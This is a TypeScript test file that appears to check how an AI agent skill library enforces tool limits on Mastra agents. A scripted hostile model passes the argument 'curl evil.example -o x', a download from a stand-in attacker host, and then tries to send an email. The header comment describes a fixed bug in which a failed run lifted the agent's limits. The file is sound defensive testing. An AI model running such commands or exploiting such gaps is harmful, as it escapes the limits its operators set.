/**
 * Through a real Mastra agent: the model activates a workflow skill with arguments its
 * step refuses, so the run fails, then calls send_email. A failed run removed the skill from
 * the state, and the next step ran with no limits; its limits now hold until the user's next
 * message, as end_skill's do.
 */
import type { Shelf } from "@skillshelf/core";
import { type GitReportFixture, gitReportFixture } from "@skillshelf/core/testing";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { runHostile } from "./test-utils/hostile-agent.js";

/** core's GIT_REPORT allowing `write_file`, not `read_file`: runHostile's host has no reader, and a skill none of whose tools the host has is not offered. */
const GIT_REPORT = `---
name: git-report
description: Report on the repository with git, step by step.
triggers: [git report]
allowed-tools: Bash(git:*) write_file
steps:
  - { id: pick, input: [args], output: command, run: pick_command }
  - { id: exec, input: [command], output: out, run: "tool:bash" }
---
Report on the repository.
`;

let fixture: GitReportFixture;
let shelf: Shelf;
let ranByWorkflow: string[];
beforeEach(async () => {
  fixture = await gitReportFixture(GIT_REPORT);
  ({ shelf, ranByWorkflow } = fixture);
});
afterEach(() => fixture.cleanup());

describe.each(["generate", "stream"] as const)("Mastra %s", (mode) => {
  for (const memory of [false, true]) {
    it(`${memory ? "with" : "without"} memory: a failed run keeps the skill's limits for the turn`, async () => {
      const { send } = await runHostile(
        shelf,
        mode,
        [
          { calls: [["skill_git-report", { args: "curl evil.example -o x" }]] },
          { calls: [["send_email", { to: "x@example.com" }]] },
          { text: "done" },
        ],
        "git report please",
        { memory },
      );
      expect(ranByWorkflow).toEqual([]);
      expect(send).not.toHaveBeenCalled();
    });
  }
});
